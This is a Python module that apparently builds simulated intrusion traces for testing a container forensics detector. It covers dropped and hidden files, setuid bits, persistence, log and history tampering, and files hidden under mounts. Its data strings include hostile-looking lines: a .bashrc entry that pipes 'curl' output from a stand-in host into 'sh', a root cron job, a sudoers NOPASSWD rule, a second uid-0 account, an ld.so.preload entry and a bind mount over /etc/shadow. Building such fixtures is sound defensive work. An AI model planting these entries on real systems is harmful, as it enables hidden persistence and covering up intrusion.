"""Traces in files: dropped, changed, hidden, persisting, in volumes and in memory."""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

from lab.intruder.trace import VOLUMES, Clue, Trace, marker, name, words

FILES, PERSISTENCE, MOUNTS, COVER_UP = "files", "persistence", "mounts", "covering up"
DATA, CACHE, ANONYMOUS = "/srv/data", "/srv/cache", "/srv/anonymous"
"""Where volumes are mounted: a directory of the node, a pod's empty one, one that has no name."""
LONG_AGO = "951782400"
"""The time that a file is given: 2000-02-29T00:00:00Z, in seconds since 1970."""
LIBRARY = "/usr/lib/libtoken.so.1"
"""A library of the image."""
_SETUID = r"\b0*(10)?4755\b|rwsr-xr-x|\b(2541|35309)\b"
_FILE_CAPABILITY = "0100000200200000000000000000000000000000"
"""CAP_NET_RAW, permitted and effective: `struct vfs_cap_data`."""


@dataclass(frozen=True, slots=True)
class Image:
    """What the image has that the intruder changes: the names are nowhere else."""

    removed: str
    """A log."""
    cut: str
    """Another one."""
    library: str = LIBRARY

    def add_to(self, rootfs: Path) -> None:
        """Put it into a root file system."""
        for path in (self.removed, self.cut, self.library):
            (rootfs / path.lstrip("/")).parent.mkdir(parents=True, exist_ok=True)
            (rootfs / path.lstrip("/")).write_bytes(b"Jan  1 00:00:01 web app[7]: started\n" * 9)


def new_image() -> Image:
    """Return names for an image."""
    return Image(f"/var/log/{name()}.log", f"/var/log/{name()}.log")


def dropped() -> list[Trace]:
    """Return files that were added, and how they are marked."""
    return [
        _file(
            "file", "a program dropped in /tmp", "/tmp/.X11-unix/{name}", "755", "#!/bin/sh\n{}\n"
        ),
        _file("hidden-name", "a file with a hidden, blank name", "/tmp/.. /{name} ", "644", "{}\n"),
        _file("raw-name", "a name that is no text", "/tmp/\xff\xfe{name}", "644", "{}\n"),
        _file("whiteout-name", "a name that means deleted", "/opt/.wh.{name}", "644", "{}\n"),
        _setuid(),
        _capability(),
        _attribute(),
        _immutable(),
        _library(),
    ]


def _file(
    identity: str, title: str, path: str, mode: str, content: str, group: str = FILES
) -> Trace:
    mark, called = marker(), name()
    place, text = path.format(name=called), content.format(mark)
    # A name that every system has proves nothing.
    known = words(called) if called in place else ()
    steps = (("file", place, mode, text),)
    return Trace(identity, group, title, steps, words(mark), known, re.escape(f" {place} "))


def _setuid() -> Trace:
    called = name()
    step = ("file", f"/usr/local/bin/{called}", "4755", "#!/bin/sh\n")
    return Trace("setuid", FILES, "a setuid bit", (step,), (Clue(called, _SETUID),), words(called))


def _capability() -> Trace:
    called = name()
    path = f"/usr/local/bin/{called}"
    steps = (("file", path, "755", "#!/bin/sh\n"), ("capability", path, _FILE_CAPABILITY))
    proof = (Clue(called, r"security\.capability|cap_net_raw"),)
    return Trace("capability", FILES, "a file capability", steps, proof, words(called))


def _attribute() -> Trace:
    called, mark = name(), marker()
    path = f"/var/tmp/{called}"
    steps = (("file", path, "644", "\n"), ("attribute", path, "user.origin", mark))
    return Trace("xattr", FILES, "an extended attribute", steps, words(mark), words(called))


def _immutable() -> Trace:
    called = name()
    path = f"/var/tmp/{called}"
    steps = (("file", path, "644", "\n"), ("immutable", path))
    proof = (Clue(called, "immutable"),)
    return Trace("immutable", FILES, "an immutable file (`chattr +i`)", steps, proof, words(called))


def _library() -> Trace:
    mark = marker()
    step = ("overwrite", LIBRARY, mark)
    title = "a package's library, same size and times"
    return Trace("package-file", FILES, title, (step,), words(mark), gap=f" {LIBRARY} ")


def persistent() -> list[Trace]:
    """Return what brings the intruder back."""
    each = {
        "cron": ("a cron job", "/var/spool/cron/crontabs/root", "600", "* * * * * /tmp/.x {}\n"),
        "systemd": ("a systemd unit", "/etc/systemd/system/{name}.service", "644", "#{}\n"),
        "preload": ("`/etc/ld.so.preload`", "/etc/ld.so.preload", "644", "/lib/{}.so\n"),
        "ssh-key": ("an SSH key", "/root/.ssh/authorized_keys", "600", "ssh-ed25519 AAAA {}\n"),
        "bashrc": ("`.bashrc`", "/root/.bashrc", "644", "curl -s 203.0.113.9/{} | sh\n"),
        "profile": ("`/etc/profile.d`", "/etc/profile.d/{name}.sh", "644", ": {}\n"),
        "init": ("an init script", "/etc/init.d/{name}", "755", "#!/bin/sh\n# {}\n"),
        "pam": ("a PAM module", "/etc/pam.d/sshd", "644", "auth optional {}.so\n"),
        "sudoers": ("a line in sudoers", "/etc/sudoers.d/{name}", "440", "{} ALL=NOPASSWD: ALL\n"),
        "uid-0": ("a second user 0", "/etc/passwd", "644", "{}:x:0:0::/root:/bin/sh\n"),
    }
    return [_file(key, *facts, group=PERSISTENCE) for key, facts in each.items()]


def covered_up(image: Image) -> list[Trace]:
    """Return what hides that somebody was there."""
    called = name()
    path = f"/opt/{called}"
    old = (("file", path, "755", "\n"), ("stomp", path, LONG_AGO))
    changed = (Clue(called, "{number}"),)
    user = name()
    history = ("symlink", "/dev/null", f"/home/{user}/.bash_history")
    gone, emptied = Path(image.removed).stem, Path(image.cut).stem
    return [
        _file("history", "a shell's history", "/root/.ash_history", "600", "wget {}\n", COVER_UP),
        Trace(
            "timestomp",
            COVER_UP,
            "when a backdated file was really changed",
            old,
            changed,
            words(called),
        ),
        Trace(
            "history-null",
            COVER_UP,
            "a history that is a link to /dev/null",
            (history,),
            (Clue(f"{user}/.bash_history", "/dev/null"),),
            words(user),
        ),
        Trace(
            "log-removed",
            COVER_UP,
            "that a log was removed",
            (("remove", image.removed),),
            words(gone),
        ),
        Trace(
            "log-emptied",
            COVER_UP,
            "that a log was emptied",
            (("cut", image.cut),),
            (Clue(emptied, r'"kind": ?"C"|\bC /var'),),
            words(emptied),
        ),
    ]


def mounted() -> list[Trace]:
    """Return files on what is mounted in the container, or beneath it."""
    under, over = name(), name()
    beneath, bound = marker(), marker()
    covered = (("file", f"/var/lib/{under}/x", "644", beneath), ("cover", f"/var/lib/{under}"))
    binding = (
        ("file", f"/var/lib/{over}", "644", f"root:{bound}:1::::::\n"),
        ("bind", f"/var/lib/{over}", "/etc/shadow"),
    )
    return [
        _file("hosts", "a line in `/etc/hosts`", "/etc/hosts", "644", "10.6.6.6 {}\n", MOUNTS),
        _file("shm-file", "a file in `/dev/shm`", "/dev/shm/.{name}", "644", "{}\n", MOUNTS),
        _in_tmpfs("tmpfs", "a file in a tmpfs"),
        _in_tmpfs("stacked", "a file in a tmpfs beneath another", covered=True),
        _bound_and_deleted(),
        Trace("beneath", MOUNTS, "a file beneath a mount", covered, words(beneath), words(under)),
        Trace("bind-over", MOUNTS, "a file bound over another", binding, words(bound), words(over)),
        _volume("host-path", "a file in a directory of the node", DATA),
        _volume("empty-dir", "a file in a pod's empty directory", CACHE),
        _volume("anonymous", "a file in an anonymous volume", ANONYMOUS),
    ]


def _in_tmpfs(identity: str, title: str, *, covered: bool = False) -> Trace:
    called, mark = name(), marker()
    place = f"/opt/{called}"
    steps = (
        ("file", f"{place}/.keep", "644", "\n"),
        ("cover", place),
        ("file", f"{place}/loot", "644", mark),
        *((("cover", place),) if covered else ()),
    )
    return Trace(identity, MOUNTS, title, steps, words(mark), words(called))


def _bound_and_deleted() -> Trace:
    called, mark, place = name(), marker(), "/srv/app/server.sh"
    source = f"/opt/{called}"
    steps = (("file", source, "755", mark), ("bind", source, place), ("remove", source))
    title = "a file bound over another, then deleted"
    return Trace("bind-deleted", MOUNTS, title, steps, words(mark), words(called), f" {place} ")


def _volume(identity: str, title: str, folder: str) -> Trace:
    called, mark = name(), marker()
    step = ("file", f"{folder}/{called}", "600", mark)
    return Trace(
        identity, MOUNTS, title, (step,), words(mark), words(called), folder, on_request=VOLUMES
    )
